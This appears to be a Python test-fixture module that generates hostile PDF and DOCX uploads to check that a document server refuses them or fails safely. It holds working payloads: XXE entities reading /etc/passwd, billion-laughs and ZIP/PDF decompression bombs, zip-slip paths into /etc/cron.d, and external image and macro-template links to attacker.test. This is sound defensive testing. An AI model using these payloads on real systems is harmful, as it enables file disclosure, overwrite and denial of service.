"""Files that do harm to a careless reader, or are not what their name says.

Each is made by a function that is named for its trick; ``HOSTILE`` is the table of them all. None
is larger than 20 MB, whatever it unpacks to, and each has one thing wrong, so that no check passes
for another's sake. They are built when asked for: some take a second or two.
"""

import bz2
import io
import random
import re
import struct
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from itertools import starmap
from typing import Literal

import msgspec
from pypdf import PdfReader, PdfWriter

from tests.documents.papers import (
    A4,
    HELVETICA,
    PDF_HEADER,
    assembled,
    docx as good_docx,
    drawn,
    parts_of,
    pdf,
    stream,
    text_string,
    zipped,
)

Expected = Literal["refused", "failed", "either"]
Make = Callable[[], bytes]

PDF, DOCX = "report.pdf", "report.docx"
MEGABYTE = 1_000_000
TEXT = "Quarterly report"
SECRET_FILE = "/etc/passwd"
# Nobody answers there: a name that is reserved for tests.
ELSEWHERE = "http://attacker.test/"


class HostileFile(msgspec.Struct, frozen=True):
    """A file and what should become of it.

    ``refused``: a server that looks at the content can tell at once, and should. ``failed``: it
    looks good from outside, so extraction must end in a clear failure; a server that refuses it
    at once does even better, but it is never completed. ``either``: to be read without harm is
    fine too; what matters is that nothing is fetched, leaked, hung up or brought down.
    """

    filename: str
    make: Make
    expected: Expected
    why: str


HOSTILE: dict[str, HostileFile] = {}


def hostile(filename: str, expected: Expected, why: str) -> Callable[[Make], Make]:
    """Enters the function into the table, under its own name."""

    def enter(make: Make) -> Make:
        HOSTILE[make.__name__] = HostileFile(filename, make, expected, why)
        return make

    return enter


# Not what the name says


def _program() -> bytes:
    """The headers of a Windows program that does nothing."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return stub + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(400)


@hostile(PDF, "refused", "A Windows program that was renamed.")
def renamed_exe_pdf() -> bytes:
    return _program()


@hostile(DOCX, "refused", "A Windows program that was renamed.")
def renamed_exe_docx() -> bytes:
    return _program()


@hostile(PDF, "refused", "It holds nothing.")
def empty() -> bytes:
    return b""


@hostile(DOCX, "refused", "It holds nothing.")
def empty_docx() -> bytes:
    return b""


@hostile(PDF, "refused", "It is a DOCX.")
def docx_named_pdf() -> bytes:
    return good_docx(TEXT)


@hostile(DOCX, "refused", "It is a PDF.")
def pdf_named_docx() -> bytes:
    return pdf(TEXT)


@hostile(PDF, "refused", "A page for browsers, which would run its script where it is served.")
def html_named_pdf() -> bytes:
    return b"<!doctype html><title>Report</title><script>alert(1)</script>"


@hostile(PDF, "refused", "The PDF begins after a page for browsers: both kinds of reader take it.")
def pdf_header_not_at_start() -> bytes:
    return html_named_pdf() + b"\n" + pdf(TEXT)


@hostile(DOCX, "refused", "A compound file: Word's format of before 2007, or an encrypted DOCX.")
def compound_file_named_docx() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HH", 62, 3) + bytes(2_000)


@hostile(DOCX, "refused", "The ZIP begins after a program: Python's zipfile opens it all the same.")
def docx_after_exe() -> bytes:
    return _program() + good_docx(TEXT)


@hostile(DOCX, "refused", "A ZIP of other things.")
def plain_zip_as_docx() -> bytes:
    return zipped({"notes.txt": b"Nothing to see here"})


# Packages that are no Word documents

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
MAIN_TYPE = f"{WORD}.document.main+xml"
WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIPS_SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
DOCUMENT_RELATIONSHIPS = "word/_rels/document.xml.rels"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _relationships(*links: str) -> bytes:
    root = f'<Relationships xmlns="{RELATIONSHIPS_SPACE}">'
    return (DECLARATION + root + "".join(links) + "</Relationships>").encode()


def _relationship(kind: str, target: str, name: str = "rId900", mode: str = "Internal") -> str:
    kind = f"{RELATIONSHIP}/{kind}"
    return f'<Relationship Id="{name}" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'


def _package(main: str, main_type: str, content: str) -> bytes:
    """A package of another office program."""
    types = (
        f'{DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{main_type}"/></Types>'
    )
    return zipped(
        {
            CONTENT_TYPES: types.encode(),
            "_rels/.rels": _relationships(_relationship("officeDocument", main)),
            main: (DECLARATION + content).encode(),
        }
    )


SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
SLIDES_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SLIDES = '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'


@hostile(DOCX, "refused", "It is a spreadsheet.")
def xlsx_as_docx() -> bytes:
    return _package("xl/workbook.xml", SHEET_TYPE, SHEET)


@hostile(DOCX, "refused", "It is a presentation.")
def pptx_as_docx() -> bytes:
    return _package("ppt/presentation.xml", SLIDES_TYPE, SLIDES)


@hostile(DOCX, "refused", "A spreadsheet that also has an entry named word/document.xml.")
def xlsx_with_word_entry() -> bytes:
    return zipped(parts_of(xlsx_as_docx()) | {DOCUMENT: _document(_paragraph(TEXT))})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _document(body: str, doctype: str = "", encoding: str = "UTF-8") -> bytes:
    """The main part. ``doctype`` stands where XML allows it and OPC forbids it."""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}'
        f'<w:document xmlns:w="{WORD_SPACE}"><w:body>{body}</w:body></w:document>'
    )
    return text.encode(encoding)


def _changed(part: str, old: str, new: str) -> bytes:
    """The part of a good DOCX with ``old``, which stands there, as ``new``."""
    text = parts_of(good_docx(TEXT))[part].decode()
    assert old in text
    return text.replace(old, new).encode()


def _docx_with(changes: Mapping[str, bytes]) -> bytes:
    """A good DOCX, but for these parts."""
    return zipped(parts_of(good_docx(TEXT)) | dict(changes))


def _related(*links: str) -> bytes:
    """The main part's relationships, and these."""
    end = "</Relationships>"
    return _changed(DOCUMENT_RELATIONSHIPS, end, "".join(links) + end)


def _declared(*types: str) -> bytes:
    """The content types, and these."""
    return _changed(CONTENT_TYPES, "</Types>", "".join(types) + "</Types>")


def _with_macros(main_type: str) -> bytes:
    macros = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    project = (
        '<Relationship Id="rId900" Target="vbaProject.bin" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    return _docx_with(
        {
            CONTENT_TYPES: _declared(macros).replace(MAIN_TYPE.encode(), main_type.encode()),
            DOCUMENT_RELATIONSHIPS: _related(project),
            "word/vbaProject.bin": compound_file_named_docx(),
        }
    )


@hostile(DOCX, "refused", "A document with macros, renamed.")
def docm_as_docx() -> bytes:
    return _with_macros("application/vnd.ms-word.document.macroEnabled.main+xml")


@hostile(DOCX, "refused", "Macros in a document whose type says that it has none.")
def docx_with_macros() -> bytes:
    return _with_macros(MAIN_TYPE)


@hostile(DOCX, "refused", "Its content types name a main part that is not there.")
def docx_without_document() -> bytes:
    parts = parts_of(good_docx(TEXT))
    del parts[DOCUMENT]
    return zipped(parts)


# XML: entities, size and depth

XXE = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{SECRET_FILE}">]>'


def _with_entity(part: str) -> bytes:
    """A part of a good DOCX that holds the secret file's text, if its parser is so kind."""
    xml = parts_of(good_docx(TEXT))[part].decode()
    declaration, mark, body = xml.partition("?>")
    root = re.findall(r"</([\w:]+)>", body)[-1]
    entity = XXE.replace("w:document", root)
    return (declaration + mark + entity + body.replace(f"</{root}>", f"&xxe;</{root}>")).encode()


@hostile(DOCX, "refused", "An external entity in the main part: a server's own file as its text.")
def docx_xxe() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph("&xxe;"), XXE)})


@hostile(
    DOCX, "refused", "The same in UTF-16, where a search for the bytes <!DOCTYPE finds nothing."
)
def docx_xxe_utf16() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph("&xxe;"), XXE, "UTF-16")})


@hostile(DOCX, "refused", "The same in UTF-16 that only its first bytes give away.")
def docx_xxe_utf16_unmarked() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph("&xxe;"), XXE, "UTF-16BE")})


@hostile(DOCX, "refused", "The same in EBCDIC, which some parsers know and OPC forbids.")
def docx_xxe_ebcdic() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph("&xxe;"), XXE, "IBM037")})


@hostile(DOCX, "refused", "The same in UTF-7, where ! and < may be written as letters.")
def docx_xxe_utf7() -> bytes:
    text = _document(_paragraph("&xxe;"), XXE, "UTF-7")
    hidden = XXE.replace("<", "+ADw-").replace("!", "+ACE-").replace("[", "+AFs-").encode()
    return _docx_with({DOCUMENT: text.replace(XXE.encode("utf-7"), hidden)})


@hostile(DOCX, "refused", "An external entity among the styles.")
def docx_xxe_styles() -> bytes:
    return _docx_with({"word/styles.xml": _with_entity("word/styles.xml")})


@hostile(DOCX, "refused", "An external entity in the properties, which give the title.")
def docx_xxe_core() -> bytes:
    return _docx_with({"docProps/core.xml": _with_entity("docProps/core.xml")})


@hostile(DOCX, "refused", "An external entity in the custom XML.")
def docx_xxe_custom_xml() -> bytes:
    item = XXE.replace("w:document", "item") + "<item>&xxe;</item>"
    return _docx_with({"customXml/item1.xml": (DECLARATION + item).encode()})


@hostile(DOCX, "refused", "An external entity in the relationships.")
def docx_xxe_relationships() -> bytes:
    return _docx_with({DOCUMENT_RELATIONSHIPS: _with_entity(DOCUMENT_RELATIONSHIPS)})


@hostile(DOCX, "refused", "An external entity in the content types, the first that is read.")
def docx_xxe_content_types() -> bytes:
    return _docx_with({CONTENT_TYPES: _with_entity(CONTENT_TYPES)})


@hostile(DOCX, "refused", "An external entity in a part that is XML by its type, not by its name.")
def docx_xxe_in_part_without_xml_name() -> bytes:
    parts = parts_of(good_docx(TEXT))
    del parts["word/styles.xml"]
    return zipped(
        parts
        | {
            CONTENT_TYPES: _changed(CONTENT_TYPES, "/word/styles.xml", "/word/styles.dat"),
            DOCUMENT_RELATIONSHIPS: _changed(DOCUMENT_RELATIONSHIPS, "styles.xml", "styles.dat"),
            "word/styles.dat": _with_entity("word/styles.xml"),
        }
    )


def _laughs(levels: int = 12) -> str:
    """Entities that each hold the one before ten times."""
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)]
    return f"<!DOCTYPE w:document [{''.join(entities)}]>"


@hostile(
    DOCX, "refused", "Entities of entities: a billion laughs, of three letters each, and more."
)
def docx_billion_laughs() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph("&lol11;"), _laughs())})


@hostile(DOCX, "refused", "The same in an attribute, where parsers expand what they leave in text.")
def docx_billion_laughs_attribute() -> bytes:
    return _docx_with({DOCUMENT: _document('<w:p w:rsidR="&lol11;"/>', _laughs())})


@hostile(DOCX, "failed", "Elements in each other, 100,000 deep: too much for recursion.")
def docx_deep_nesting() -> bytes:
    deep = "<w:sdt>" * 100_000 + _paragraph(TEXT) + "</w:sdt>" * 100_000
    return _docx_with({DOCUMENT: _document(deep)})


@hostile(DOCX, "failed", "Its main part is not well-formed.")
def docx_broken_xml() -> bytes:
    return _docx_with({DOCUMENT: _document(_paragraph(TEXT)).removesuffix(b"</w:document>")})


@hostile(DOCX, "either", "A cell that spans two billion columns: a row's cells fill the memory.")
def docx_grid_span() -> bytes:
    span = '<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
    row = f"<w:tr><w:tc>{span}{_paragraph(TEXT)}</w:tc></w:tr>"
    grid = "<w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>"
    return _docx_with({DOCUMENT: _document(f"<w:tbl>{grid}{row}</w:tbl>")})


@hostile(
    DOCX, "either", "Cells that each continue the one above: a loop of loops, or deep recursion."
)
def docx_merged_rows() -> bytes:
    grid = "<w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>"
    cell = f"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>{_paragraph('x')}</w:tc></w:tr>"
    first = cell.replace("<w:vMerge/>", '<w:vMerge w:val="restart"/>')
    return _docx_with({DOCUMENT: _document(f"<w:tbl>{grid}{first}{cell * 5_000}</w:tbl>")})


# ZIP: sizes, names and places that lie

STORED, DEFLATED, BZIP2, UNKNOWN = 0, 8, 12, 99
ENCRYPTED = 1
DAY_ONE = 33  # the first of January 1980


class _Entry(msgspec.Struct, frozen=True):
    """What an archive says of an entry, which need not be true."""

    name: bytes
    packed_size: int
    size: int
    checksum: int
    method: int = DEFLATED
    flags: int = 0

    def local_header(self) -> bytes:
        return b"PK\3\4" + struct.pack("<H", 20) + self._facts() + self.name

    def record(self, place: int) -> bytes:
        """Its line in the central directory."""
        about = struct.pack("<HHHII", 0, 0, 0, 0, place)
        return b"PK\1\2" + struct.pack("<HH", 20, 20) + self._facts() + about + self.name

    def _facts(self) -> bytes:
        kind = struct.pack("<HHHH", self.flags, self.method, 0, DAY_ONE)
        sizes = struct.pack("<III", self.checksum, self.packed_size, self.size)
        return kind + sizes + struct.pack("<HH", len(self.name), 0)


_Placed = tuple[_Entry, int]
_Packed = tuple[_Entry, bytes]


def _directory(placed: Sequence[_Placed], at: int, count: int | None = None) -> bytes:
    """The central directory and the archive's end."""
    records = b"".join(entry.record(place) for entry, place in placed)
    told = len(placed) if count is None else count
    end = struct.pack("<HHHHIIH", 0, 0, told, told, len(records), at, 0)
    return records + b"PK\5\6" + end


def _laid_out(entries: Iterable[_Packed]) -> tuple[bytes, list[_Placed]]:
    """The entries after each other, and where each is."""
    body, placed = bytearray(), []
    for entry, packed in entries:
        placed.append((entry, len(body)))
        body += entry.local_header() + packed
    return bytes(body), placed


def _archive(entries: Iterable[_Packed], count: int | None = None) -> bytes:
    """``count`` is how many entries it says it has, if not how many it has."""
    body, placed = _laid_out(entries)
    return body + _directory(placed, len(body), count)


def _deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def _honest(name: str, content: bytes) -> _Packed:
    packed = _deflated(content)
    return _Entry(name.encode(), len(packed), len(content), zlib.crc32(content)), packed


def _good_entries(*, without: str = "") -> list[_Packed]:
    """The entries of a good DOCX."""
    parts = parts_of(good_docx(TEXT))
    return [_honest(name, content) for name, content in parts.items() if name != without]


def _with_main_part(entry: _Entry, packed: bytes) -> bytes:
    return _archive([*_good_entries(without=DOCUMENT), (entry, packed)])


class _Flood(msgspec.Struct, frozen=True):
    """Content that is large, packed in no time: one block of deflate is repeated as it is.

    A block that ends with a full flush stands for itself, wherever it stands.
    """

    head: bytes
    chunk: bytes
    times: int
    tail: bytes = b""

    @property
    def size(self) -> int:
        return len(self.head) + len(self.chunk) * self.times + len(self.tail)

    def pieces(self) -> Iterable[bytes]:
        return [self.head, *[self.chunk] * self.times, self.tail]

    def checksum(self, value: int = 0) -> int:
        """The CRC-32, of what comes before it too if that is its ``value``."""
        for piece in self.pieces():
            value = zlib.crc32(piece, value)
        return value

    def deflated(self) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = packer.compress(self.head) + packer.flush(zlib.Z_FULL_FLUSH)
        block = packer.compress(self.chunk) + packer.flush(zlib.Z_FULL_FLUSH)
        return head + block * self.times + packer.compress(self.tail) + packer.flush()

    def flate(self) -> bytes:
        """Packed as PDF has it: in zlib's envelope, with its own checksum."""
        checksum = 1
        for piece in self.pieces():
            checksum = zlib.adler32(piece, checksum)
        return b"\x78\xda" + self.deflated() + struct.pack(">I", checksum)


def _xml_flood(megabytes: int) -> _Flood:
    """A main part of empty paragraphs. Four bytes each: what repeats so soon packs best."""
    head = f'{DECLARATION}<document xmlns="{WORD_SPACE}"><body>'
    return _Flood(head.encode(), b"<p/>" * (MEGABYTE // 4), megabytes, b"</body></document>")


@hostile(DOCX, "refused", "The main part unpacks to 600 MB of good XML, and says so.")
def docx_bomb() -> bytes:
    flood = _xml_flood(600)
    packed = flood.deflated()
    entry = _Entry(DOCUMENT.encode(), len(packed), flood.size, flood.checksum())
    return _with_main_part(entry, packed)


@hostile(DOCX, "refused", "The main part unpacks to 600 MB, and says that it is 1,000 bytes.")
def docx_bomb_false_size() -> bytes:
    flood = _xml_flood(600)
    packed = flood.deflated()
    return _with_main_part(_Entry(DOCUMENT.encode(), len(packed), 1_000, flood.checksum()), packed)


@hostile(
    DOCX,
    "either",
    "As long as it says, the main part is good and its checksum right; 600 MB follow.",
)
def docx_bomb_after_good_end() -> bytes:
    good = _document(_paragraph(TEXT))
    packed = _Flood(good, b" " * MEGABYTE, 600).deflated()
    return _with_main_part(
        _Entry(DOCUMENT.encode(), len(packed), len(good), zlib.crc32(good)), packed
    )


@hostile(DOCX, "refused", "2 GB in 200 parts, none of which is very large.")
def docx_bomb_spread() -> bytes:
    flood = _Flood(b"<item>", b" " * MEGABYTE, 10, b"</item>")
    packed, checksum = flood.deflated(), flood.checksum()
    parts = [
        (_Entry(b"customXml/part%d.xml" % n, len(packed), flood.size, checksum), packed)
        for n in range(200)
    ]
    return _archive([*_good_entries(), *parts])


def _overlapping(count: int, kernel: _Flood) -> bytes:
    """Entries in one place, each of them good: to each, the next one's header is content."""
    tail, before, size = kernel.deflated(), b"", kernel.size
    block = b""
    chain: list[_Placed] = []
    # From the last to the first, as only the distance to the end is known.
    for n in reversed(range(count)):
        # Deflate stores the header of the entry after this one as it is.
        tail = block + tail
        checksum = kernel.checksum(zlib.crc32(before))
        entry = _Entry(b"customXml/part%d.xml" % n, len(tail), size, checksum)
        header = entry.local_header()
        tail = header + tail
        chain.insert(0, (entry, len(tail)))
        before = header + before
        size += len(header)
        block = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
    body, placed = _laid_out(_good_entries())
    body += tail
    placed += [(entry, len(body) - back) for entry, back in chain]
    return body + _directory(placed, len(body))


@hostile(
    DOCX, "refused", "Fifty entries of 10 MB that overlap: the file is as large as one of them."
)
def docx_overlapping_bomb() -> bytes:
    return _overlapping(50, _Flood(b"<item>", b" " * MEGABYTE, 10, b"</item>"))


@hostile(DOCX, "refused", "Three small entries that overlap.")
def docx_overlapping_entries() -> bytes:
    return _overlapping(3, _Flood(b"<item>", b" ", 1, b"</item>"))


@hostile(DOCX, "refused", "Two entries of the directory lead to the same place.")
def docx_entries_at_one_place() -> bytes:
    body, placed = _laid_out(_good_entries())
    entry, place = next(pair for pair in placed if pair[0].name == DOCUMENT.encode())
    placed.append((msgspec.structs.replace(entry, name=b"word/footnotes.xml"), place))
    return body + _directory(placed, len(body))


@hostile(DOCX, "refused", "100,000 entries.")
def docx_many_entries() -> bytes:
    return zipped(parts_of(good_docx(TEXT)) | {f"m/{n}.jpeg": b"" for n in range(100_000)})


@hostile(DOCX, "refused", "60,000 entries, of which the archive's end admits 17.")
def docx_entry_count_lie() -> bytes:
    good = _good_entries()
    more = [_honest(f"m/{n}.jpeg", b"") for n in range(60_000)]
    return _archive([*good, *more], count=len(good))


OTHER_DOCUMENT = _document(_paragraph("Something else"))


@hostile(DOCX, "refused", "Two main parts: which is checked, and which is read?")
def docx_duplicate_names() -> bytes:
    return _archive([*_good_entries(), _honest(DOCUMENT, OTHER_DOCUMENT)])


@hostile(
    DOCX, "refused", "A name that ends early for who stops at NUL: then it is the main part's."
)
def docx_nul_in_name() -> bytes:
    return _archive([*_good_entries(), _honest(f"{DOCUMENT}\0.png", OTHER_DOCUMENT)])


@hostile(DOCX, "refused", "An entry that leaves the folder it is unpacked to.")
def docx_zip_slip() -> bytes:
    return _archive([*_good_entries(), _honest("../../evil.jpeg", b"evil")])


@hostile(DOCX, "refused", "The same for Windows.")
def docx_zip_slip_backslash() -> bytes:
    return _archive([*_good_entries(), _honest("..\\..\\evil.jpeg", b"evil")])


@hostile(DOCX, "refused", "An entry that names its place from the root.")
def docx_zip_absolute_path() -> bytes:
    return _archive([*_good_entries(), _honest("/etc/cron.d/evil.jpeg", b"evil")])


def _main_part_said_to_be(method: int, flags: int = 0) -> bytes:
    entry, packed = _honest(DOCUMENT, _document(_paragraph(TEXT)))
    return _with_main_part(msgspec.structs.replace(entry, method=method, flags=flags), packed)


@hostile(DOCX, "refused", "The main part is said to be encrypted.")
def docx_encrypted_entry() -> bytes:
    return _main_part_said_to_be(DEFLATED, ENCRYPTED)


@hostile(DOCX, "refused", "The main part is packed in a way that nobody knows.")
def docx_unknown_compression() -> bytes:
    return _main_part_said_to_be(UNKNOWN)


@hostile(DOCX, "either", "The main part is packed by bzip2: fine for ZIP, forbidden by OPC.")
def docx_bzip2() -> bytes:
    content = _document(_paragraph(TEXT))
    packed = bz2.compress(content)
    name = DOCUMENT.encode()
    checksum = zlib.crc32(content)
    return _with_main_part(_Entry(name, len(packed), len(content), checksum, BZIP2), packed)


@hostile(DOCX, "refused", "Its checksum is wrong: it came damaged.")
def docx_wrong_checksum() -> bytes:
    entry, packed = _honest(DOCUMENT, _document(_paragraph(TEXT)))
    return _with_main_part(msgspec.structs.replace(entry, checksum=entry.checksum ^ 1), packed)


@hostile(DOCX, "refused", "Its end is missing, and the directory with it.")
def docx_truncated() -> bytes:
    whole = good_docx(TEXT)
    return whole[: len(whole) * 2 // 3]


@hostile(DOCX, "failed", "Two documents after each other: who reads from the front sees macros.")
def docx_after_docm() -> bytes:
    return docm_as_docx() + good_docx(TEXT)


# What a DOCX relates to


def _drawing(reference: str) -> str:
    """A picture, which is linked if it is not embedded."""
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    blip = f'<a:blip xmlns:a="{drawing}/main" xmlns:r="{RELATIONSHIP}" {reference}="rId900"/>'
    return f"<w:p><w:r><w:drawing>{blip}</w:drawing></w:r></w:p>"


def _with_picture(target: str, mode: str) -> bytes:
    reference = "r:link" if mode == "External" else "r:embed"
    return _docx_with(
        {
            DOCUMENT: _document(_paragraph(TEXT) + _drawing(reference)),
            DOCUMENT_RELATIONSHIPS: _related(_relationship("image", target, mode=mode)),
        }
    )


@hostile(DOCX, "either", "A picture from elsewhere, which tells who reads it and when.")
def docx_external_image() -> bytes:
    return _with_picture(f"{ELSEWHERE}image.png", "External")


@hostile(DOCX, "either", "A picture that is a file of the server's.")
def docx_external_file() -> bytes:
    return _with_picture(f"file://{SECRET_FILE}", "External")


@hostile(DOCX, "either", "A part outside of the package.")
def docx_relationship_outside() -> bytes:
    return _with_picture(f"../../../..{SECRET_FILE}", "Internal")


@hostile(DOCX, "either", "A template from elsewhere, whose macros Word would run.")
def docx_external_template() -> bytes:
    template = _relationship("attachedTemplate", f"{ELSEWHERE}macros.dotm", mode="External")
    use = f'<w:attachedTemplate xmlns:r="{RELATIONSHIP}" r:id="rId900"/></w:settings>'
    return _docx_with(
        {
            "word/settings.xml": _changed("word/settings.xml", "</w:settings>", use),
            "word/_rels/settings.xml.rels": _relationships(template),
        }
    )


@hostile(
    DOCX, "either", "A part that relates to a part, and so on, 1,500 deep: too much for recursion."
)
def docx_relationship_chain() -> bytes:
    # The kind is one that no reader knows a class for.
    parts: dict[str, bytes] = {DOCUMENT_RELATIONSHIPS: _related(_relationship("more", "part0.xml"))}
    for n in range(1_500):
        parts[f"word/part{n}.xml"] = b"<part/>"
        link = _relationships(_relationship("more", f"part{n + 1}.xml"))
        parts[f"word/_rels/part{n}.xml.rels"] = link
    parts["word/part1500.xml"] = b"<part/>"
    return _docx_with(parts)


# PDF: what unpacks to more than a machine has

TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
FLATE = b"/Filter /FlateDecode"


def _objects(
    *more: bytes,
    catalog: bytes = b"",
    tree: bytes = TREE,
    page: bytes = b"",
    contents: bytes = b"4 0 R",
    resources: bytes = b"",
    content: bytes | None = None,
    font: bytes = HELVETICA,
) -> list[bytes]:
    """A page of text: 1 the catalog, 2 the page tree, 3 the page, 4 its content, 5 the font.

    What is given is added to them, or stands in their place; ``more`` are numbered from 6.
    """
    used = b"/Resources << /Font << /F1 5 0 R >> %b >> /Contents %b" % (resources, contents)
    return [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        tree,
        b"<< /Type /Page /Parent 2 0 R /MediaBox %b %b %b >>" % (A4, used, page),
        stream(drawn(TEXT)) if content is None else content,
        font,
        *more,
    ]


def _with_content(content: bytes) -> bytes:
    return assembled(_objects(content=content))


OPERATORS = b"BT /F1 11 Tf 56 780 Td (x) Tj ET\n"
MANY_OPERATORS = OPERATORS * (MEGABYTE // len(OPERATORS) + 1)


@hostile(PDF, "failed", "A page's content unpacks to 600 MB of operators.")
def pdf_flate_bomb() -> bytes:
    return _with_content(stream(_Flood(b"", MANY_OPERATORS, 600).flate(), FLATE))


@hostile(PDF, "failed", "Packed twice: 5 KB hold 3 MB, and these hold 1 GB.")
def pdf_double_flate() -> bytes:
    twice = zlib.compress(_Flood(b"", MANY_OPERATORS, 1_050).flate(), 9)
    return _with_content(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


@hostile(PDF, "failed", "Runs of blanks, 640 MB of them, packed once more.")
def pdf_run_length_bomb() -> bytes:
    run, end = b"\x81 ", b"\x80"
    text = drawn(TEXT)
    head = bytes([len(text) - 1]) + text
    flood = _Flood(head, run * (MEGABYTE // 2), 10, end)
    return _with_content(stream(flood.flate(), b"/Filter [/FlateDecode /RunLengthDecode]"))


def _lzw_blanks(blocks: int) -> bytes:
    """Blanks packed by LZW: each code stands for one blank more than the last, until it clears."""
    clear, end, last = 256, 257, 4_093
    codes = [clear, ord(" "), *range(258, last)]
    widths = [
        9 if code < 511 else 10 if code < 1_023 else 11 if code < 2_047 else 12 for code in codes
    ]
    block = "".join(f"{code:0{width}b}" for code, width in zip(codes, widths, strict=True))
    # The clearing code is as wide as the codes before it, except the very first.
    later = f"{clear:012b}" + block[9:]
    bits = block + later * (blocks - 1) + f"{end:012b}"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


@hostile(
    PDF, "failed", "Blanks packed by LZW, 600 MB of them: each code stands for one blank more."
)
def pdf_lzw_bomb() -> bytes:
    return _with_content(stream(_lzw_blanks(82), b"/Filter /LZWDecode"))


@hostile(PDF, "failed", "A page draws a stream of 10 MB a thousand times over.")
def pdf_contents_array_bomb() -> bytes:
    content = stream(_Flood(b"", MANY_OPERATORS, 10).flate(), FLATE)
    again = b"[" + b"4 0 R " * 1_000 + b"]"
    return assembled(_objects(contents=again, content=content))


@hostile(PDF, "failed", "A thousand pages, each within a reader's limits, all too much together.")
def pdf_heavy_pages() -> bytes:
    content = stream(_Flood(b"", MANY_OPERATORS, 5).flate(), FLATE)
    tree = b"<< /Type /Pages /Kids [" + b"3 0 R " * 1_000 + b"] /Count 1000 >>"
    return assembled(_objects(tree=tree, content=content))


@hostile(PDF, "either", "One page of 50 MB of text, in a file of 75 KB.")
def pdf_text_flood() -> bytes:
    line = b"(" + b"word " * (MEGABYTE // 5) + b") Tj T*\n"
    flood = _Flood(b"BT /F1 11 Tf 14 TL 56 780 Td\n", line, 50, b"ET")
    return _with_content(stream(flood.flate(), FLATE))


@hostile(
    PDF, "either", "Pictures in the text that never end: each is searched to the end of the page."
)
def pdf_unended_inline_images() -> bytes:
    pictures = b"BI /W 1 /H 1 /BPC 8 /CS /G ID x\n" * 100_000
    content = drawn(TEXT) + b"\n" + pictures + drawn(TEXT)
    return _with_content(stream(zlib.compress(content, 9), FLATE))


@hostile(PDF, "either", "A map of characters that claims all four billion codes.")
def pdf_cmap_bomb() -> bytes:
    return _with_character_map(b"1 beginbfrange <00000000> <FFFFFFFF> <00000000> endbfrange")


@hostile(
    PDF, "either", "A map of characters from ranges: each within limits, forty million together."
)
def pdf_cmap_of_many_ranges() -> bytes:
    ranges = b"<0000> <FFFF> <0000>\n" * 600
    return _with_character_map(b"600 beginbfrange\n" + ranges + b"endbfrange")


def _with_character_map(ranges: bytes) -> bytes:
    font = HELVETICA.removesuffix(b">>") + b"/ToUnicode 6 0 R >>"
    return assembled(_objects(stream(b"begincmap\n" + ranges + b"\nendcmap"), font=font))


# PDF: loops, depth and numbers that lie


@hostile(PDF, "failed", "A branch of the page tree holds the tree.")
def pdf_page_tree_loop() -> bytes:
    tree = b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>"
    branch = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"
    return assembled(_objects(branch, tree=tree))


@hostile(PDF, "either", "It says that it has two billion pages, and has one.")
def pdf_page_count_lie() -> bytes:
    return assembled(_objects(tree=b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"))


@hostile(PDF, "failed", "One page a million times.")
def pdf_million_pages() -> bytes:
    kids = b"3 0 R " * 1_000_000
    return assembled(_objects(tree=b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000000 >>"))


@hostile(PDF, "failed", "Branches that each hold the next ten times: a billion pages in 2 KB.")
def pdf_page_tree_fanout() -> bytes:
    levels = 9
    numbers = [2, *range(6, 5 + levels), 3]
    nodes = [
        b"<< /Type /Pages /Kids ["
        + b"%d 0 R " % child * 10
        + b"] /Count %d >>" % 10 ** (levels - at)
        for at, child in enumerate(numbers[1:])
    ]
    return assembled(_objects(*nodes[1:], tree=nodes[0]))


